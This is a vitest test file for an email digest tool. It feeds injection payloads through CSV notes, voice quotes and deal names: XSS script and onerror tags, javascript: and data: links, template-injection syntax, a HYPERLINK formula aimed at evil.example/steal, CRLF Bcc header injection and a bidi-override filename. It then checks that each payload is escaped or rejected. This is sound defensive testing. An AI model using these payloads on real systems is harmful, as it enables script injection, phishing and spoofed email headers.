/**
 * Injection attempts through the data: markup, template syntax, unsafe links, header
 * injection and text-direction tricks in notes, voice and deal names. All rows go into one
 * copy of the sample, which is previewed once (HTML, text, .eml, digest.json) and validated
 * once; each case then asserts what must never reach the email, where the row is reported (or
 * kept as plain text), the exit codes, and that the figures stay as for the clean sample.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Digest } from '../../src/model/types.js';
import { runCli } from '../helpers/cli.js';
import { append, configFor, dataFolder, digestFor, figures, nextRow, WEEK } from './harness.js';

const N = await nextRow('notes.csv');
const V = await nextRow('voice.csv');
const D = await nextRow('deals.csv');
const note = (title: string, extra: { details?: string; link?: string; author?: string } = {}) =>
  ['2026-W47', 'success', 'marketing', extra.author ?? 'Anke', csv(title), csv(extra.details ?? ''), csv(extra.link ?? ''), '', '', ''].join(',');
const csv = (s: string) => (/[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

interface Output {
  html: string;
  text: string;
  eml: string;
  digest: Digest;
  issues: string;
}

interface InjectionCase {
  name: string;
  /** What must never appear in the HTML (and, where given, the text part or the headers). */
  never: { html?: (string | RegExp)[]; text?: (string | RegExp)[]; headers?: (string | RegExp)[] };
  /** Where the row is: its data issue, or the item that keeps the text verbatim as plain text. */
  located: (o: Output) => void;
}

const NOTES = [
  note('<script>alert(1)</script> Messe-Bericht'),
  note('Bild', { details: '<img src=x onerror=alert(1)>' }),
  note('JS-Link', { link: 'javascript:alert(document.cookie)' }),
  note('Data-Link', { link: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' }),
  note('Attribut', { link: 'https://example.com/x" onmouseover="alert(1)' }),
  note("{{constructor.constructor('return process')()}} Vorlage"),
  note('</style><style>body{display:none}</style> CSS'),
  note('=HYPERLINK("https://evil.example/steal","Klick") Formel'),
  note('Autor', { author: '<b onclick=alert(1)>Anke</b>' }),
  note('Zeilen\r\nBcc: evil@attacker.example\r\nSubject: gefälscht'),
];
const VOICE = ['2026-W47,Sicherheit,"<mj-raw><script>alert(2)</script></mj-raw> Zitat",Jörg,call'];
const DEALS = ['999000002,"Evil \u202Egnp.exe\u202C AG",1000,EUR,,2026-11-02T10:00:00+01:00,2026-11-18T10:00:00+01:00,closedwon,default,71234503,REFERRALS'];

const item = (o: Output, title: string) => [...o.digest.successes, ...o.digest.changes, ...o.digest.fixes].find((i) => i.title === title);

const CASES: InjectionCase[] = [
  { name: 'a script tag in a note title', never: { html: ['<script>alert(1)'] }, located: (o) => expect(o.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Messe-Bericht') },
  { name: 'an img onerror in the details', never: { html: [/<img[^>]+onerror/i] }, located: (o) => expect(item(o, 'Bild')?.details).toBe('<img src=x onerror=alert(1)>') },
  { name: 'a javascript: link', never: { html: ['javascript:'], text: ['javascript:'] }, located: (o) => expect(o.issues).toContain(`warning notes.csv!G${N + 2}: link "javascript:alert(document.cookie)" is not allowed`) },
  { name: 'a data: link', never: { html: ['data:text/html'] }, located: (o) => expect(o.issues).toContain(`warning notes.csv!G${N + 3}: link "data:text/html`) },
  { name: 'a link that tries to close its attribute', never: { html: [/" onmouseover="/] }, located: (o) => expect(item(o, 'Attribut')?.link).toBe('https://example.com/x" onmouseover="alert(1)') },
  { name: 'Handlebars syntax in a title is text, never evaluated', never: { html: [/\[object|function Function|process\.env/] }, located: (o) => expect(o.html).toContain("{{constructor.constructor(&#x27;return process&#x27;)()}} Vorlage") },
  { name: 'a style block in a title', never: { html: ['</style><style>body{display:none}'] }, located: (o) => expect(o.html).toContain('&lt;/style&gt;&lt;style&gt;body{display:none}&lt;/style&gt; CSS') },
  { name: 'a spreadsheet formula stays text, never a link', never: { html: ['href="https://evil.example'] }, located: (o) => expect(item(o, '=HYPERLINK("https://evil.example/steal","Klick") Formel')).toBeDefined() },
  { name: 'markup in an author', never: { html: ['<b onclick'] }, located: (o) => expect(item(o, 'Autor')?.author).toBe('<b onclick=alert(1)>Anke</b>') },
  { name: 'CRLF and a header in a title never become headers', never: { headers: [/^Bcc:/im, /^Subject: gef/im] }, located: (o) => expect([...o.digest.successes].some((i) => i.title.startsWith('Zeilen'))).toBe(true) },
  { name: 'MJML and a script in a voice quote', never: { html: ['<mj-raw>', '<script>alert(2)'] }, located: (o) => expect(o.html).toContain('&lt;mj-raw&gt;') },
  {
    name: 'a bidi override in a deal name (shown as "Evil exe.png AG")',
    never: { html: [/[\u202A-\u202E\u2066-\u2069]/], text: [/[\u202A-\u202E\u2066-\u2069]/], headers: [/[\u202A-\u202E\u2066-\u2069]/] },
    located: (o) => {
      expect(o.issues).toContain(`warning deals.csv!B${D}: invisible text-direction characters (bidi controls) removed`);
      expect(o.digest.wins.map((w) => w.name)).toContain('Evil gnp.exe AG');
    },
  },
];

describe('bad input: injection through the data', () => {
  let out: Output;
  let clean: Record<string, number | null>;
  let codes: { preview: number; validate: number };

  beforeAll(async () => {
    clean = figures(await digestFor(await configFor(await dataFolder({}))));
    const dir = await dataFolder({ 'notes.csv': append(...NOTES), 'voice.csv': append(...VOICE), 'deals.csv': append(...DEALS) });
    // Lists uncapped, so every injected row reaches the email and its escaping can be seen.
    const config = await configFor(dir, { sections: { maxItems: 50 } });
    const folder = join(dir, '..', 'preview');
    const preview = await runCli(['preview', '--config', config, '--week', WEEK, '--out', folder]);
    const validate = await runCli(['validate', '--config', config, '--week', WEEK]);
    codes = { preview: preview.code, validate: validate.code };
    const [html, text, eml, json] = await Promise.all(['digest.html', 'digest.txt', 'digest.eml', 'digest.json'].map((f) => readFile(join(folder, f), 'utf8')));
    out = { html: html!, text: text!, eml: eml!, digest: JSON.parse(json!) as Digest, issues: `${validate.out}\n${validate.err}` };
  }, 60_000);

  it('previews (exit 0) and validates with warnings only (exit 0); the figures move only by the one added win', () => {
    expect(codes).toEqual({ preview: 0, validate: 0 });
    expect(figures(out.digest)).toEqual({ ...clean, 'funnel:deals_won': 6, 'kpi:deals_won': 6, 'kpi:revenue_won': 119510.5, 'kpi:avg_deal_size': 23902.1, 'kpi:win_rate': 0.64 });
    expect(out.digest.successes.length).toBeGreaterThanOrEqual(NOTES.length);
    expect(V).toBeGreaterThan(1);
  });

  it.each(CASES.map((c) => [c.name, c] as const))('%s', (_, c) => {
    const headers = out.eml.split(/\r?\n\r?\n/, 1)[0]!;
    for (const bad of c.never.html ?? []) typeof bad === 'string' ? expect(out.html).not.toContain(bad) : expect(out.html).not.toMatch(bad);
    for (const bad of c.never.text ?? []) typeof bad === 'string' ? expect(out.text).not.toContain(bad) : expect(out.text).not.toMatch(bad);
    for (const bad of c.never.headers ?? []) typeof bad === 'string' ? expect(headers).not.toContain(bad) : expect(headers).not.toMatch(bad);
    c.located(out);
  });
});
